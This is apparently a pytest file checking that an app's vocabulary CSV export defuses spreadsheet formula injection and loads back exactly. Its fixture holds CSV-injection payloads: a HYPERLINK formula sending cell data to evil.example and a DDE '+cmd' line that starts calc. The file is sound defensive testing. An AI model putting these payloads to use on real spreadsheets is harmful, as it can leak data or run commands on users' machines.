"""The vocabulary CSV goes through the app's one CSV-cell helper (issue 7, item 8): formulas defused,
and the file loads back exactly."""

from __future__ import annotations

import csv
import io

import pytest

from annotations.export.csvcells import neutralise, unneutralise
from annotations.models import Term
from annotations.permissions import OPERATOR
from annotations.vocabulary import export_csv, load_vocabulary_bytes

HOSTILE = [
    ("person", "hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0"),
    ("organization", "-minus", "-5 dead", "@SUM(A1)", "\tTabbed"),
    ("person", "apostrophe", "'=already quoted", "'Ali", "'-x"),
]


@pytest.fixture
def hostile_terms(db):
    for actor_type, slug, label, code, description in HOSTILE:
        term = Term.objects.create(
            slug=slug, kind="actor", actor_type=actor_type, label=label, code=code, description=description
        )
        term.ensure_label_alias(by=OPERATOR)


def rows() -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export_csv(), newline="")))


def test_no_exported_cell_starts_a_formula(hostile_terms):
    for row in rows():
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
    hyperlink = next(row for row in rows() if row["id"] == "hyperlink")
    assert hyperlink["label"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert hyperlink["code"] == "'=1+1"
    minus = next(row for row in rows() if row["label"] == "'-5 dead")
    assert minus["id"] == "'-minus" and minus["aliases"] == "'-5 dead"


def test_the_csv_round_trip_is_exact_with_formula_cells(hostile_terms):
    first = export_csv()
    Term.objects.all().delete()
    report = load_vocabulary_bytes(first.encode(), filename="exported.csv")
    assert report.ok, report.errors
    for _, slug, label, code, description in HOSTILE:
        term = Term.objects.get(slug=slug)
        assert (term.label, term.code, term.description) == (label, code, description)
    assert export_csv() == first


@pytest.mark.parametrize("value", ["", "plain", "=1", "'=1", "''=1", "'plain", "'", "-", "@x", "\rx"])
def test_unneutralise_gives_back_exactly_what_neutralise_was_given(value):
    assert unneutralise(neutralise(value)) == value
